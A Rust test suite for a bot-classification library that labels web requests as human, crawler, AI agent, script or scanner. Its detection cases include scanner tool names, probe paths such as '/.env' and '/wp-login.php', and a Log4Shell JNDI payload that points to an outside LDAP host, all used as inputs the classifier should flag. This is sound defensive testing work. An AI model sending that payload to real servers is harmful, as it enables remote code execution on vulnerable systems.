//! `BotClassifier`: classes, precedence and reasons.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use warden_security::services::{ClassifierConfig, Reason, Velocity};
use warden_security::{BotClass, BotClassifier, RequestFacts};

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const GPTBOT: &str = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)";

fn classify(path: &str, ua: Option<&str>) -> warden_security::Verdict {
    BotClassifier::default().classify(&RequestFacts {
        path: Some(path),
        user_agent: ua,
        velocity: None,
    })
}

fn fast() -> Option<Velocity> {
    Some(Velocity {
        count: 100,
        window_secs: 60,
    })
}

#[test]
fn a_current_browser_on_an_ordinary_path_is_human_without_reasons() {
    let v = classify("/api/users", Some(CHROME));
    assert_eq!(v.class, BotClass::Human);
    assert!(v.reasons.is_empty());
    assert!(!v.is_bot());
}

#[test]
fn a_scanner_user_agent_is_a_scanner_and_names_the_tool() {
    let v = classify("/", Some("sqlmap/1.8.11#stable (https://sqlmap.org)"));
    assert_eq!(v.class, BotClass::Scanner);
    assert!(v.reasons.contains(Reason::ScannerUserAgent("sqlmap")));
}

#[test]
fn an_ai_crawler_is_an_ai_agent() {
    let v = classify("/", Some(GPTBOT));
    assert_eq!(v.class, BotClass::AiAgent);
    assert!(v.reasons.contains(Reason::AiAgentUserAgent("GPTBot")));
}

#[test]
fn a_search_crawler_is_a_crawler() {
    assert_eq!(classify("/", Some(GOOGLEBOT)).class, BotClass::Crawler);
}

#[test]
fn an_http_library_is_a_script() {
    let v = classify("/", Some("python-requests/2.32.3"));
    assert_eq!(v.class, BotClass::Script);
    assert!(v
        .reasons
        .contains(Reason::ScriptUserAgent("python-requests")));
}

#[test]
fn a_headless_browser_is_a_script() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36"),
    );
    assert_eq!(v.class, BotClass::Script);
    assert!(v.reasons.contains_code("headless_browser"));
}

#[test]
fn a_missing_user_agent_is_a_script() {
    let v = classify("/", None);
    assert_eq!(v.class, BotClass::Script);
    assert!(v.reasons.contains(Reason::MissingUserAgent));
}

#[test]
fn an_empty_user_agent_is_a_script() {
    assert!(classify("/", Some("   "))
        .reasons
        .contains(Reason::EmptyUserAgent));
}

#[test]
fn a_short_user_agent_is_a_script() {
    let v = classify("/", Some("foo/1"));
    assert_eq!(v.class, BotClass::Script);
    assert!(v.reasons.contains(Reason::ShortUserAgent));
}

#[test]
fn a_bare_mozilla_user_agent_is_a_script() {
    assert!(classify("/", Some("Mozilla/5.0"))
        .reasons
        .contains(Reason::BareMozilla));
}

#[test]
fn an_outdated_chrome_is_a_script() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.84 Safari/537.36"),
    );
    assert_eq!(v.class, BotClass::Script);
    assert!(v.reasons.contains(Reason::OutdatedBrowser));
}

#[test]
fn an_outdated_firefox_is_a_script() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"),
    );
    assert!(v.reasons.contains(Reason::OutdatedBrowser));
}

#[test]
fn browsers_that_ship_an_old_engine_on_purpose_are_not_outdated() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36"),
    );
    assert_eq!(v.class, BotClass::Human);
}

#[test]
fn the_minimum_browser_major_is_configurable() {
    let c = BotClassifier::new(ClassifierConfig {
        min_browser_major: 140,
        ..ClassifierConfig::default()
    });
    let v = c.classify(&RequestFacts {
        path: None,
        user_agent: Some(CHROME),
        velocity: None,
    });
    assert!(v.reasons.contains(Reason::OutdatedBrowser));
}

#[test]
fn a_probe_path_makes_a_browser_a_scanner() {
    let v = classify("/.env", Some(CHROME));
    assert_eq!(v.class, BotClass::Scanner);
    assert!(v.reasons.contains(Reason::DotFile));
}

#[test]
fn a_probe_path_makes_a_claimed_crawler_a_scanner() {
    // Scanners often pretend to be Googlebot.
    let v = classify("/wp-login.php", Some(GOOGLEBOT));
    assert_eq!(v.class, BotClass::Scanner);
    assert!(v.reasons.contains(Reason::ProbePath("wordpress")));
    assert!(v.reasons.contains(Reason::CrawlerUserAgent("Googlebot")));
}

#[test]
fn high_velocity_makes_a_human_a_scanner() {
    let v = BotClassifier::default().classify(&RequestFacts {
        path: Some("/"),
        user_agent: Some(CHROME),
        velocity: fast(),
    });
    assert_eq!(v.class, BotClass::Scanner);
    assert!(v.reasons.contains(Reason::HighVelocity));
}

#[test]
fn high_velocity_makes_a_script_a_scanner() {
    let v = BotClassifier::default().classify(&RequestFacts {
        path: Some("/"),
        user_agent: Some("curl/8.5.0"),
        velocity: fast(),
    });
    assert_eq!(v.class, BotClass::Scanner);
}

#[test]
fn high_velocity_keeps_a_named_crawler_a_crawler() {
    let v = BotClassifier::default().classify(&RequestFacts {
        path: Some("/"),
        user_agent: Some(GOOGLEBOT),
        velocity: fast(),
    });
    assert_eq!(v.class, BotClass::Crawler);
    assert!(v.reasons.contains(Reason::HighVelocity));
}

#[test]
fn velocity_at_the_threshold_is_not_high() {
    let v = BotClassifier::default().classify(&RequestFacts {
        path: Some("/"),
        user_agent: Some(CHROME),
        velocity: Some(Velocity {
            count: 30,
            window_secs: 60,
        }),
    });
    assert_eq!(v.class, BotClass::Human);
}

#[test]
fn zapier_is_not_zap() {
    let v = classify("/", Some("Zapier"));
    assert_ne!(v.class, BotClass::Scanner);
}

#[test]
fn ccleaner_browser_is_human() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 CCleaner/131.0.0.0"),
    );
    assert_eq!(v.class, BotClass::Human);
}

#[test]
fn owasp_zap_is_a_scanner() {
    assert_eq!(
        classify("/", Some("Mozilla/5.0 (X11) Firefox/125.0 OWASP ZAP/2.15")).class,
        BotClass::Scanner
    );
    assert_eq!(classify("/", Some("ZAP/2.15.0")).class, BotClass::Scanner);
}

#[test]
fn generic_bot_self_identification_is_a_crawler() {
    let v = classify(
        "/",
        Some("Mozilla/5.0 (compatible; AcmeBot/1.0; +https://acme.example/bot)"),
    );
    assert_eq!(v.class, BotClass::Crawler);
    assert!(v.reasons.contains_code("generic_bot_token"));
}

#[test]
fn a_named_token_beats_generic_self_identification() {
    let v = classify("/", Some("Scrapy/2.11.2 (+https://scrapy.org)"));
    assert_eq!(v.class, BotClass::Script);
    assert!(!v.reasons.contains_code("generic_bot_token"));
}

#[test]
fn log4shell_in_the_user_agent_is_a_scanner() {
    let v = classify("/", Some("${jndi:ldap://198.51.100.7/a}"));
    assert_eq!(v.class, BotClass::Scanner);
    assert!(v.reasons.contains_code("exploit_in_user_agent"));
}

#[test]
fn generic_admin_paths_can_be_turned_off() {
    let c = BotClassifier::new(ClassifierConfig {
        generic_paths_are_probes: false,
        ..ClassifierConfig::default()
    });
    let facts = RequestFacts {
        path: Some("/admin/users"),
        user_agent: Some(CHROME),
        velocity: None,
    };
    assert_eq!(c.classify(&facts).class, BotClass::Human);
    assert_eq!(
        BotClassifier::default().classify(&facts).class,
        BotClass::Scanner
    );
}

#[test]
fn reasons_serialize_as_code_and_detail_strings() {
    let v = classify("/wp-admin/", Some("sqlmap/1.8"));
    let json = serde_json::to_value(v).unwrap();
    assert_eq!(json["class"], "scanner");
    let reasons: Vec<&str> = json["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    assert!(reasons.contains(&"probe_path:wordpress"), "{reasons:?}");
    assert!(
        reasons.contains(&"scanner_user_agent:sqlmap"),
        "{reasons:?}"
    );
}

#[test]
fn a_bare_mozilla_token_of_any_version_is_a_script() {
    for ua in [
        "Mozilla/4.0",
        "Mozilla/5.0",
        "mozilla/3.0 ",
        "Mozilla/5.0 (compatible)",
    ] {
        let v = classify("/", Some(ua));
        assert_eq!(v.class, BotClass::Script, "{ua}");
    }
    // A real (if old) browser string is not bare.
    let v = classify(
        "/",
        Some("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"),
    );
    assert_ne!(v.class, BotClass::Scanner);
}
